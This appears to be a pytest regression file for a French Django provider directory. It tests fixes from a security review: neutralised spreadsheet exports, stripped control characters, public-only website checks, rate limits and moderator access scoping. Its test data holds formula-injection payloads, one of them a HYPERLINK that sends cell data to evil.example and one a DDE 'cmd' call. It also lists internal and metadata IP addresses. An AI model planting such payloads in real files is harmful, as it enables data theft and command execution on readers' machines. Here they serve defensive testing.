"""Regressions from the security and integrity review of curation and open data."""

import csv
import io
import ipaddress
import zipfile
from xml.etree import ElementTree

import pytest
from django.contrib.contenttypes.models import ContentType
from django.core import mail
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from providers.curation.liveness import _is_public
from providers.curation.merge import merge
from providers.curation.snapshots import snapshot
from providers.exports import spreadsheet_text
from providers.models import Provider, ReviewStatus, Revision, Status
from tests.curation_helpers import link_in, started, submission_data
from tests.factories import (
    ClusterFactory,
    ModeratorFactory,
    ProviderFactory,
    SuperuserFactory,
    commune,
    region,
)

pytestmark = pytest.mark.django_db
OUESSANT = "ou=Ouessant+%2829%29&local=on"


def test_spreadsheet_exports_never_carry_live_formulas(client):
    name = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
    ProviderFactory(
        name=name,
        description="+cmd|' /C calc'!A0",
        address="@SUM(1+1)",
        phone="+33 1 99 00 00 01",
        seat=commune("29155"),
    )
    text = b"".join(client.get(f"/prestataires/telecharger.csv?{OUESSANT}").streaming_content)
    row = next(csv.DictReader(io.StringIO(text.decode("utf-8-sig")), delimiter=";"))
    assert row["nom"] == "'" + name
    assert row["description"].startswith("'+cmd")
    assert row["adresse"] == "'@SUM(1+1)"
    assert row["telephone"] == "+33 1 99 00 00 01"  # a phone number stays as it is
    response = client.get(f"/prestataires/telecharger.xlsx?{OUESSANT}")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert "f" not in {cell.data_type for cell in sheet[2]}  # no formula cell


@pytest.mark.parametrize(
    "typed",
    [" =1+1", "  +SUM(A1)", "\u3000=1+1", "\uff1d1+1", "\uff0bcmd", "\u00a0@SUM(1)", "\n=1"],
)
def test_formulas_hidden_behind_a_space_or_a_full_width_sign_are_neutralised_too(client, typed):
    provider = ProviderFactory(name="Texte piégé", seat=commune("29155"))
    Provider.objects.filter(pk=provider.pk).update(address=typed)
    text = b"".join(client.get(f"/prestataires/telecharger.csv?{OUESSANT}").streaming_content)
    row = next(csv.DictReader(io.StringIO(text.decode("utf-8-sig")), delimiter=";"))
    assert row["adresse"] == "'" + typed
    assert spreadsheet_text(" +33 1 99 00 00 01") == " +33 1 99 00 00 01"  # a phone stays


def test_control_characters_never_break_an_export(client):
    provider = ProviderFactory(seat=commune("29155"))
    Provider.objects.filter(pk=provider.pk).update(description="Texte\x0bavec\x1bdes\x0ccodes")
    downloads = {}
    for extension in ("csv", "ods", "xlsx"):
        response = client.get(f"/prestataires/telecharger.{extension}?{OUESSANT}")
        assert response.status_code == 200
        downloads[extension] = b"".join(response.streaming_content)
    assert b"\x0b" not in downloads["csv"] and b"\x1b" not in downloads["csv"]
    content = zipfile.ZipFile(io.BytesIO(downloads["ods"])).read("content.xml")
    assert b"Texteavecdescodes" in content
    ElementTree.fromstring(content)  # well-formed XML
    sheet = load_workbook(io.BytesIO(downloads["xlsx"])).active
    assert sheet["B2"].value == "Texteavecdescodes"


def test_forms_strip_control_characters(client):
    client.post(
        "/referencer/",
        submission_data(description="Ligne un\x0b\nLigne\x1b deux", address="1 rue\x0c Libre"),
    )
    provider = Provider.objects.get()
    assert provider.description == "Ligne un\nLigne deux"
    assert provider.address == "1 rue Libre"


def test_duplicate_warnings_never_reveal_unpublished_listings(client):
    ProviderFactory(
        name="Gestion Libre Evry",
        status=Status.PENDING,
        seat=commune("91377"),
        website="https://gestion-libre-evry.example",
    )
    page = client.post("/referencer/", submission_data(siren="732829320")).content.decode()
    assert "peut-être déjà référencée" not in page


def test_merging_closes_the_removed_listings_proposals_and_keeps_emails_private():
    user = SuperuserFactory()
    keep = ProviderFactory(name="Gardée", email="", show_email=True)
    gone = ProviderFactory(name="Supprimée", email="privee@x.example", show_email=False)
    data = snapshot(gone)
    revision = Revision.objects.create(provider=gone, data=data, submitted_by_email="a@x.example")
    merge(keep, gone, user)
    keep.refresh_from_db()
    revision.refresh_from_db()
    assert revision.provider == keep and revision.status == ReviewStatus.REJECTED
    assert keep.email == "privee@x.example" and keep.show_email is False


def test_an_archived_listing_cannot_be_edited_through_an_old_link(client):
    provider = ProviderFactory()
    client.post(f"/prestataires/{provider.slug}/mise-a-jour/")
    link = link_in(mail.outbox[0])
    Provider.objects.filter(pk=provider.pk).update(status=Status.ARCHIVED)
    response = client.get(link)
    assert response.status_code == 410
    assert "ne peut plus être modifiée" in response.content.decode()


def test_a_moderator_cannot_approve_a_submission_changed_since_it_was_shown():
    cluster = ClusterFactory(regions=[region("11")])
    moderator = Client()
    moderator.force_login(ModeratorFactory(clusters=[cluster]))
    provider = ProviderFactory(status=Status.PENDING)
    shown = provider.updated_at.isoformat()
    Provider.objects.filter(pk=provider.pk).update(
        description="Changée après l'affichage", updated_at=timezone.now()
    )
    response = moderator.post(
        f"/admin/providers/provider/moderation/submission/{provider.pk}/",
        {"decision": "approve", "version": shown},
        follow=True,
    )
    assert "a été modifiée depuis son affichage" in response.content.decode()
    provider.refresh_from_db()
    assert provider.status == Status.PENDING


@pytest.mark.parametrize("total", ["²", "٣", "99999999999", "-1"])
def test_adding_a_row_with_a_forged_counter_is_not_a_500(client, total):
    data = submission_data(**{"offres-TOTAL_FORMS": total, "ajouter_ligne": "1"})
    assert client.post("/referencer/", data).status_code == 200


def test_hidden_listings_can_still_ask_for_an_update_link(client):
    provider = ProviderFactory(hidden_unreachable=True)
    assert client.get(f"/prestataires/{provider.slug}/").status_code == 404
    assert client.post(f"/prestataires/{provider.slug}/mise-a-jour/").status_code == 200
    assert mail.outbox[0].to == [provider.email]


def test_the_confirmation_subject_does_not_repeat_what_a_stranger_typed(client):
    client.post("/referencer/", submission_data(name="Achetez maintenant !", started=started()))
    assert mail.outbox[0].subject == "[Annuaire] Confirmez votre demande de référencement"


@pytest.mark.parametrize(
    ("address", "public"),
    [
        ("93.184.216.34", True),
        ("2606:4700::1111", True),
        ("127.0.0.1", False),
        ("10.1.2.3", False),
        ("169.254.169.254", False),
        ("::1", False),
        ("::127.0.0.1", False),
        ("::ffff:127.0.0.1", False),
        ("64:ff9b::7f00:1", False),
        ("fd00::1", False),
    ],
)
def test_the_website_checker_only_connects_to_public_addresses(address, public):
    assert _is_public(ipaddress.ip_address(address)) is public


@pytest.mark.parametrize("who", ["admin_client", "moderator_client"])
def test_the_audit_history_cannot_be_written_through(who, request, idf_cluster):
    """Posting the change form to an old version used to save that version whole: a listing
    hidden for an unreachable website became visible again."""
    provider = ProviderFactory(name="Cachée", seat=commune("91228"), cluster=idf_cluster)
    old = provider.history.earliest()
    provider.hidden_unreachable = True
    provider.save()
    client = request.getfixturevalue(who)
    url = f"/admin/providers/provider/{provider.pk}/history/{old.history_id}/"
    assert client.get(url).status_code == 200
    data = {
        "name": "Cachée",
        "slug": provider.slug,
        "seat": provider.seat_id,
        "cluster": idf_cluster.pk,
        "status": Status.PUBLISHED,
        "accepts_new_clients": "on",
        "offerings-TOTAL_FORMS": "0",
        "offerings-INITIAL_FORMS": "0",
        "_change_history": "1",
    }
    assert client.post(url, data).status_code == 405
    assert client.post(f"/admin/providers/provider/{provider.pk}/history/", data).status_code == 405
    provider.refresh_from_db()
    assert provider.hidden_unreachable
    assert not Provider.objects.published().filter(pk=provider.pk).exists()


def _nonsense_lines(count):
    return "\n".join(f"zzqx{index}wv{'k' * (index % 7)}plor" for index in range(count))


def test_adding_a_row_checks_no_place_whatever_was_typed(client):
    """Each unknown place costs a typo search: thirty of them, re-posted with « Ajouter une
    ligne d'offre » in a loop, used to cost seconds of CPU per request."""
    with CaptureQueriesContext(connection) as queries:
        response = client.post(
            "/referencer/", submission_data(areas_text=_nonsense_lines(30), ajouter_ligne="1")
        )
    page = response.content.decode()
    assert response.status_code == 200
    assert "Offre 4" in page and "zzqx29wv" in page  # shown again as typed
    assert "Lieu inconnu" not in page
    assert not [query for query in queries if "territories_" in query["sql"]]


def test_the_add_row_button_has_its_own_hourly_limit(client, settings):
    settings.FORM_ROWS_PER_HOUR = 2
    data = submission_data(ajouter_ligne="1")
    for _ in range(2):
        assert client.post("/referencer/", data).status_code == 200
    with CaptureQueriesContext(connection) as queries:
        response = client.post("/referencer/", data)
    page = response.content.decode()
    assert response.status_code == 429
    assert "<h1>Trop de lignes ajoutées</h1>" in page
    assert "revenez à la page précédente" in page
    assert len(queries) == 0  # a refusal costs no form rendering and no query
    assert Client(REMOTE_ADDR="10.9.9.8").post("/referencer/", data).status_code == 200


def test_a_submission_reports_three_unknown_places_then_stops_looking(client):
    response = client.post("/referencer/", submission_data(areas_text=_nonsense_lines(30)))
    page = response.content.decode()
    assert response.status_code == 200
    assert page.count("Lieu inconnu") == 3
    assert "Les lignes suivantes n&#x27;ont pas été vérifiées." in page
    assert not Provider.objects.exists()


def test_view_on_site_reveals_nothing_outside_the_moderators_clusters(
    moderator_client, admin_client, idf_cluster, aura_cluster
):
    """`/admin/r/<type>/<id>/` redirected any staff user to any listing's address, drafts of
    other clusters included, so their slugs could be read by trying ids."""
    provider_type = ContentType.objects.get_for_model(Provider).pk
    theirs = ProviderFactory(
        name="Brouillon lyonnais", seat=commune("69123"), cluster=aura_cluster, status="draft"
    )
    mine = ProviderFactory(name="Fiche d'Évry", seat=commune("91228"), cluster=idf_cluster)
    response = moderator_client.get(f"/admin/r/{provider_type}/{theirs.pk}/")
    assert response.status_code == 404
    assert theirs.slug not in response.content.decode()
    assert moderator_client.get(f"/admin/r/{provider_type}/{mine.pk}/").url.endswith(
        f"/prestataires/{mine.slug}/"
    )
    assert admin_client.get(f"/admin/r/{provider_type}/{theirs.pk}/").status_code == 302
    assert moderator_client.get(f"/admin/r/{provider_type}/abc/").status_code == 404
    assert moderator_client.get(f"/admin/r/999999/{mine.pk}/").status_code == 404
    assert Client().get(f"/admin/r/{provider_type}/{mine.pk}/").status_code == 302  # to login
